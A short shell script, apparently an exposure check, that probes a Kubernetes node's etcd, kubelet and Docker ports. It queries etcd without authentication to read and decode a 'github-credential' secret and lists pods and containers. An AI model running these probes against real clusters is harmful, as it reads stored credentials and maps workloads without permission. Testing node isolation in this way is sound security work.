# What listens on the node: etcd, the kubelet, and what only the node itself is to reach.
. "$(dirname "$0")/lib.sh"
key=$(printf '/registry/secrets/%s/github-credential' "$NAMESPACE" | base64 -w 0)
etcd() { POST_BODY="{\"key\":\"$key\"}" get "$1/v3/kv/range" | sed -n 's/.*"value":"\([^"]*\)".*/\1/p' | base64 -d; }
for host in 127.0.0.1 $NODE_ADDRESS; do
  for port in $NODE_PORTS; do
    try "etcd at $host:$port" etcd "http://$host:$port"
    try "$host:$port" get "https://$host:$port/pods" "http://$host:$port/containers/json"
  done
done
tried
